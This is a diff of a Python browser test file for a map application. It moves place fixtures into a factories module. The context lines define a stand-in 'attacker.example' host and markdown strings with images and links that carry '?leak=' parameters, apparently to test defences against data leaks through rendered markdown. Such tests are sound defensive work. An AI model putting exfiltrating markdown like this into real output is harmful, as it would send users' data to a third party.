@@ -24,11 +24,10 @@ from test_browser_share import download_from, open_share_panel, wait_idle  # tes
 from mapapp.models import Article, Mention, Place
 from mapapp.store import Store
 
+from factories import BAKU, LONDON, TOVUZ
+
 pytestmark = pytest.mark.browser
 
-BAKU = Place("gn:587084", "Baku", 40.377, 49.892, "city", "AZ", 2_000_000, "Baku")
-LONDON = Place("gn:2643743", "London", 51.50853, -0.12574, "city", "GB", 8_961_989)
-TOVUZ = Place("gn:585170", "Tovuz", 40.99, 45.63, "admin2", "AZ", 15_000)
 ATTACKER = "attacker.example"
 MD_FILE = f"![y](https:{ATTACKER}?leak=1).txt"
 MD_TITLE = f"Read [this](https://{ATTACKER}/t?leak=2) ![i](https://{ATTACKER}/i.png?leak=3)"
